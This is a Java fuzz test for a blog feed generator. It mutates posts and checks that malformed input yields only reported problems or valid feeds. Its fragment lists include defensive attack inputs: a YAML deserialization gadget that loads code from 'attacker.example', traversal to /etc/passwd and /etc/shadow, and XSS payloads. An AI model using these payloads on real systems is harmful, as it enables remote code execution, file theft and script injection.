package dev.feedcard.build;

import dev.feedcard.Fixtures;
import dev.feedcard.cli.Main;
import dev.feedcard.config.Config;
import dev.feedcard.config.Settings;
import dev.feedcard.content.Post;
import dev.feedcard.content.PostFile;
import dev.feedcard.content.PostReader;
import dev.feedcard.content.ContentScanner;
import dev.feedcard.render.RenderedPost;
import dev.feedcard.render.Renderer;
import dev.feedcard.report.ProblemException;
import dev.feedcard.testing.TestBlog;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

import javax.imageio.ImageIO;
import java.awt.image.BufferedImage;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.stream.Stream;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTimeoutPreemptively;
import static org.junit.jupiter.api.Assertions.assertTrue;

/**
 * Mutates the real posts of the hippocampus-garden corpus (byte flips, truncation, control characters, duplicated
 * and deleted lines, YAML fragments in the front matter, Markdown fragments in the body) and checks that nothing
 * but a reported problem comes out: no other exception, no hang, and every feed built from them well-formed.
 * <p>
 * Each round mutates every post of the corpus once (seeded, so a failure can be replayed). Every mutated post is
 * read and rendered on its own, with a time limit; then the round's 111 posts are built together through the
 * command line (feeds only, keep-going) and the feeds are parsed back. A smaller sample is built with cards.
 * Inputs that fail are written to {@code target/fuzz-failures/}. {@code -Dfeedcard.fuzz.rounds=N} runs longer.
 */
class FuzzIT {
    private static final int ROUNDS = Integer.getInteger("feedcard.fuzz.rounds", 20);
    private static final long SEED = Long.getLong("feedcard.fuzz.seed", 5L);
    private static final Duration PER_POST = Duration.ofSeconds(10);
    private static final Duration PER_BUILD = Duration.ofSeconds(120);

    private static final String[] YAML_FRAGMENTS = {
            "&a [*a]", "!!binary aGVsbG8=", "? [a, b]\n: c", "<<: *nowhere", "- - - x", "{", "[", "'", "\"", "key: value: more",
            "\tindented: tab", "%YAML 1.2", "--- !tag", "*undefined", "!!str", "&anchor", "title: [", "date: 2024-02-30",
            "tags: {a: [b, {c: d}]}", "...", "title: !!int words", "featuredImage: ../../../etc/passwd", "featuredImage: /etc/shadow",
            "featuredImage: https://example.com/remote.png", "featuredImage: \"http://exa mple.com/a b.png\"", "slug: ../escape",
            "slug: a/b", "lang: 'xx-YY'", "draft: maybe", "date: 99999-01-01", "date: 0000-00-00", "updated: yesterday",
            "title: " + "[".repeat(200), "x: " + "{a: ".repeat(80), "a: &x [1, 2]\nb: [*x, *x, *x, *x, *x]", "title: \"\\u0000\"",
            "title: \"\\uD800\"", "description: |\n  multi\n  line", "title: >\n  folded", "tags: \"a,,b, ,c\"", "tags: [~, 1, true, [x]]",
            "title: 12345", "title: true", "title: null", "date: [2024-01-01]", "date: {y: 2024}", "image:\n  src: ../../x.png\n  alt: 1",
            "!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://attacker.example/\"]]]]",
            "title: \u202Eevil\u202C", "title: \uFEFFbom", "title: \"" + "🙂".repeat(300) + "\"",
    };
    private static final String[] MARKDOWN_FRAGMENTS = {
            "```", "~~~", "<div>", "</div>", "<iframe src=\"javascript:alert(1)\"></iframe>", "<script>alert(1)</script>", "]]>",
            "<![CDATA[", "[link](", "![img](", "![](../../../../etc/passwd)", "> ".repeat(500) + "deep", "*".repeat(1000),
            "[".repeat(3000), "(".repeat(3000), "<!-- more", "<!-- more -->", "|a|b|\n|-|", "|" + "x|".repeat(500) + "\n" + "-|".repeat(500),
            "$$", "\u202E", "&#0;", "&#xD800;", "&#x1F600;", "&nbsp;&amp;&lt;", "<a href=\"data:text/html,x\">x</a>",
            "- ".repeat(300) + "list", "    code", "\t\tcode", "# " + "#".repeat(10), "<img src=x onerror=alert(1)>", "<svg><script>x</script>",
            "[x]: <>", "<http://a.b/" + "x".repeat(2000) + ">", "`".repeat(100), "\\", "<", ">", "&", "\u0085", "\u2028\u2029",
            "<p>" + "<b>".repeat(2000), "1. " .repeat(300) + "item",
    };

    @TempDir
    Path dir;

    private final List<String> failures = new ArrayList<>();
    private int cases;
    private int refused;

    @Test
    void mutatedPostsGiveProblemsOrFeedsNeverCrashesOrHangs() throws Exception {
        Path corpus = dir.resolve("corpus");
        copyCorpus(corpus);
        List<PostFile> originals = ContentScanner.scan(corpus);
        assertTrue(originals.size() > 100, "the corpus is missing: " + Fixtures.corpus());
        Map<String, byte[]> originalBytes = new java.util.TreeMap<>();
        for (PostFile file : originals) originalBytes.put(file.name(), Files.readAllBytes(file.path()));

        Random random = new Random(SEED);
        for (int round = 0; round < ROUNDS; round++) {
            Path content = dir.resolve("round-" + round);
            Map<String, List<String>> mutations = new java.util.TreeMap<>();
            for (Map.Entry<String, byte[]> post : originalBytes.entrySet()) {
                List<String> applied = new ArrayList<>();
                byte[] mutated = mutate(post.getValue(), random, applied);
                linkFolder(corpus.resolve(post.getKey()).getParent(), content.resolve(post.getKey()).getParent());
                Files.write(content.resolve(post.getKey()), mutated);
                mutations.put(post.getKey(), applied);
            }
            readAndRenderEachPost(round, content, mutations);
            buildTogether(round, content, mutations, round % 10 == 9);
            if (failures.size() > 20) break;
        }
        System.out.printf("FuzzIT: %d mutated posts in %d rounds, %d refused with a problem, %d failures%n", cases, ROUNDS, refused, failures.size());
        assertTrue(failures.isEmpty(), failures.size() + " failures (inputs in target/fuzz-failures):\n" + String.join("\n", failures));
        assertTrue(cases >= 2000, "only " + cases + " cases");
    }

    private void readAndRenderEachPost(int round, Path content, Map<String, List<String>> mutations) throws IOException {
        Config config = Config.from(new Settings(Map.of("siteUrl", TestBlog.SITE_URL, "languages", "en,ja"), "fuzz"), Instant.parse(TestBlog.NOW));
        PostReader reader = new PostReader(content, config.site().timeZone(), config.site().language(), config.feeds().languages());
        Renderer renderer = new Renderer(config.site());
        for (PostFile file : ContentScanner.scan(content, config.feeds().languages(), null)) {
            cases++;
            String label = "round " + round + ", " + file.name() + " " + mutations.get(file.name());
            try {
                assertTimeoutPreemptively(PER_POST, () -> {
                    Post post;
                    try {
                        post = reader.read(file);
                    } catch (ProblemException e) {
                        refused++;
                        assertEquals(file.name(), e.problem().file(), "the problem names the file");
                        assertTrue(!e.problem().message().isBlank() && e.problem().line() >= 0);
                        return;
                    }
                    RenderedPost rendered = renderer.render(post);
                    assertTrue(rendered.summary().codePoints().noneMatch(c -> c < 0x20 || c == 0xFFFE || c == 0xFFFF));
                }, label);
            } catch (Throwable e) {
                fail(label, e, Files.readAllBytes(file.path()));
            }
        }
    }

    /** Builds a round's posts together through the command line and parses every feed it writes. */
    private void buildTogether(int round, Path content, Map<String, List<String>> mutations, boolean withCards) throws IOException {
        Path out = dir.resolve("out-" + round);
        Path sample = content;
        if (withCards) {
            // cards take time: a sample of twelve posts, with their images
            sample = dir.resolve("sample-" + round);
            int n = 0;
            for (String name : mutations.keySet()) {
                if (n++ % 9 != 0) continue;
                linkFolder(content.resolve(name).getParent(), sample.resolve(name).getParent());
                Files.copy(content.resolve(name), sample.resolve(name), java.nio.file.StandardCopyOption.REPLACE_EXISTING);
            }
        }
        List<String> args = new ArrayList<>(List.of("build", "--content", sample.toString(), "--out", out.toString(), "--site-url", TestBlog.SITE_URL,
                "--now", TestBlog.NOW, "--limit", "0", "--languages", "en,ja", "--keep-going", "--quiet"));
        if (!withCards) args.add("--feeds-only");
        String label = "round " + round + " built together" + (withCards ? " with cards" : "");
        try {
            TestBlog.Run run = assertTimeoutPreemptively(PER_BUILD, () -> TestBlog.run(args.toArray(String[]::new)), label);
            assertTrue(run.code() == Main.OK || run.code() == Main.CONTENT_ERRORS, label + ": " + run);
            assertTrue(!run.err().contains("feedcard could not") && !run.err().contains("internal error"), label + ": " + run.err());
            if (run.code() == Main.OK) {
                try (Stream<Path> files = Files.walk(out)) {
                    for (Path file : files.filter(Files::isRegularFile).toList()) {
                        String name = file.getFileName().toString();
                        if (name.endsWith(".xml")) TestBlog.parseXml(Files.readAllBytes(file));
                        if (name.endsWith(".json")) new com.fasterxml.jackson.databind.ObjectMapper().readTree(file.toFile());
                        if (name.endsWith(".jpg")) {
                            BufferedImage card = ImageIO.read(file.toFile());
                            assertTrue(card != null && card.getWidth() == 1200 && card.getHeight() == 630, file.toString());
                        }
                    }
                }
                assertTrue(Files.isRegularFile(out.resolve("atom.xml")) && Files.isRegularFile(out.resolve("rss.xml")), label);
            }
        } catch (Throwable e) {
            fail(label, e, null);
        }
    }

    private void fail(String label, Throwable e, byte[] input) throws IOException {
        String id = String.format("%03d", failures.size());
        failures.add(id + " " + label + ": " + e);
        if (input != null) {
            Path saved = Path.of("target", "fuzz-failures", id + ".md");
            Files.createDirectories(saved.getParent());
            Files.write(saved, input);
        }
    }

    static byte[] mutate(byte[] original, Random random, List<String> applied) {
        byte[] bytes = original;
        if (random.nextInt(3) == 0) {
            // every post of the corpus has a description; without one, the summary comes from the body's first lines
            List<String> lines = lines(bytes);
            lines.replaceAll(line -> line.startsWith("description:") ? "description: \"\"" : line);
            bytes = join(lines);
            applied.add("empty description");
        }
        int count = 1 + random.nextInt(3);
        for (int i = 0; i < count; i++) {
            int kind = random.nextInt(9);
            switch (kind) {
                case 0 -> {
                    int flips = 1 + random.nextInt(8);
                    bytes = bytes.clone();
                    for (int f = 0; f < flips && bytes.length > 0; f++) {
                        bytes[Math.min(bytes.length - 1, position(bytes, random))] ^= (byte) (1 << random.nextInt(8));
                    }
                    applied.add("flip " + flips + " bytes");
                }
                case 1 -> {
                    int at = bytes.length == 0 ? 0 : random.nextInt(bytes.length);
                    bytes = java.util.Arrays.copyOf(bytes, at);
                    applied.add("truncate at " + at);
                }
                case 2 -> {
                    String controls = randomControls(random);
                    bytes = insert(bytes, position(bytes, random), controls.getBytes(StandardCharsets.UTF_8));
                    applied.add("insert controls");
                }
                case 3 -> {
                    List<String> lines = lines(bytes);
                    int at = random.nextInt(lines.size());
                    lines.add(at, lines.get(at));
                    bytes = join(lines);
                    applied.add("duplicate line " + (at + 1));
                }
                case 4 -> {
                    List<String> lines = lines(bytes);
                    int at = random.nextInt(lines.size());
                    lines.remove(at);
                    bytes = join(lines);
                    applied.add("delete line " + (at + 1));
                }
                case 5, 6 -> {
                    List<String> lines = lines(bytes);
                    int end = Math.max(1, Math.min(lines.size(), frontMatterLines(lines)));
                    int at = 1 + random.nextInt(end);
                    String fragment = YAML_FRAGMENTS[random.nextInt(YAML_FRAGMENTS.length)];
                    lines.add(Math.min(at, lines.size()), fragment);
                    bytes = join(lines);
                    applied.add("yaml fragment at line " + (at + 1));
                }
                case 7 -> {
                    List<String> lines = lines(bytes);
                    int bodyStart = Math.min(lines.size(), frontMatterLines(lines) + 1);
                    // half of them where the summary is taken from: the body's first lines
                    int at = random.nextBoolean() ? random.nextInt(lines.size() + 1)
                            : Math.min(lines.size(), bodyStart + random.nextInt(4));
                    lines.add(at, MARKDOWN_FRAGMENTS[random.nextInt(MARKDOWN_FRAGMENTS.length)]);
                    bytes = join(lines);
                    applied.add("markdown fragment at line " + (at + 1));
                }
                default -> {
                    // replace a front matter value with a fragment
                    List<String> lines = lines(bytes);
                    int end = Math.min(lines.size(), frontMatterLines(lines));
                    if (end > 1) {
                        int at = 1 + random.nextInt(end - 1);
                        String line = lines.get(at);
                        int colon = line.indexOf(':');
                        if (colon > 0) lines.set(at, line.substring(0, colon + 1) + " " + YAML_FRAGMENTS[random.nextInt(YAML_FRAGMENTS.length)]);
                    }
                    bytes = join(lines);
                    applied.add("replace a value");
                }
            }
        }
        return bytes;
    }

    /**
     * Where to change a file: anywhere in a third of the cases, in the front matter in another third, and in the
     * first few hundred bytes of the body (the title, the summary) in the last third.
     */
    private static int position(byte[] bytes, Random random) {
        int end = Math.min(bytes.length, frontMatterEnd(bytes));
        return switch (random.nextInt(3)) {
            case 0 -> random.nextInt(bytes.length + 1);
            case 1 -> random.nextInt(end + 1);
            default -> Math.min(bytes.length, end + random.nextInt(600));
        };
    }

    private static String randomControls(Random random) {
        StringBuilder sb = new StringBuilder();
        int n = 1 + random.nextInt(5);
        int[] pool = {0x01, 0x07, 0x08, 0x0B, 0x0C, 0x0D, 0x1B, 0x1F, 0x7F, 0x85, 0x9F, 0xFEFF, 0xFFFE, 0xFFFF, 0x200B, 0x202E, 0x2028};
        for (int i = 0; i < n; i++) sb.appendCodePoint(pool[random.nextInt(pool.length)]);
        return sb.toString();
    }

    /** The index of the byte after the front matter's closing line, or the file's length. */
    private static int frontMatterEnd(byte[] bytes) {
        String text = new String(bytes, StandardCharsets.ISO_8859_1);
        int close = text.indexOf("\n---", 3);
        return close < 0 ? bytes.length : close + 4;
    }

    private static int frontMatterLines(List<String> lines) {
        for (int i = 1; i < lines.size(); i++) if (lines.get(i).startsWith("---")) return i;
        return lines.size();
    }

    /** Lines as ISO-8859-1 text, so that splitting and joining keeps every byte as it was. */
    private static List<String> lines(byte[] bytes) {
        return new ArrayList<>(List.of(new String(bytes, StandardCharsets.ISO_8859_1).split("\n", -1)));
    }

    private static byte[] join(List<String> lines) {
        // fragments are written in UTF-8; the surrounding lines are bytes kept as ISO-8859-1 characters
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        for (int i = 0; i < lines.size(); i++) {
            String line = lines.get(i);
            boolean bytesOnly = line.chars().allMatch(c -> c < 256);
            out.writeBytes(line.getBytes(bytesOnly ? StandardCharsets.ISO_8859_1 : StandardCharsets.UTF_8));
            if (i < lines.size() - 1) out.write('\n');
        }
        return out.toByteArray();
    }

    private static byte[] insert(byte[] bytes, int at, byte[] inserted) {
        byte[] result = new byte[bytes.length + inserted.length];
        System.arraycopy(bytes, 0, result, 0, at);
        System.arraycopy(inserted, 0, result, at, inserted.length);
        System.arraycopy(bytes, at, result, at + inserted.length, bytes.length - at);
        return result;
    }

    private static void copyCorpus(Path to) throws IOException {
        try (Stream<Path> walk = Files.walk(Fixtures.corpus())) {
            for (Path p : walk.toList()) {
                Path target = to.resolve(Fixtures.corpus().relativize(p).toString());
                if (Files.isDirectory(p)) Files.createDirectories(target);
                else Files.copy(p, target);
            }
        }
    }

    /** The post's folder with its images, hard-linked (not symbolic links, which feedcard would refuse) to save space. */
    private static void linkFolder(Path from, Path to) throws IOException {
        Files.createDirectories(to);
        try (Stream<Path> files = Files.list(from)) {
            for (Path file : files.filter(Files::isRegularFile).toList()) {
                String name = file.getFileName().toString();
                if (name.endsWith(".md") || Files.exists(to.resolve(name))) continue;
                try {
                    Files.createLink(to.resolve(name), file);
                } catch (IOException | UnsupportedOperationException e) {
                    Files.copy(file, to.resolve(name));
                }
            }
        }
    }
}
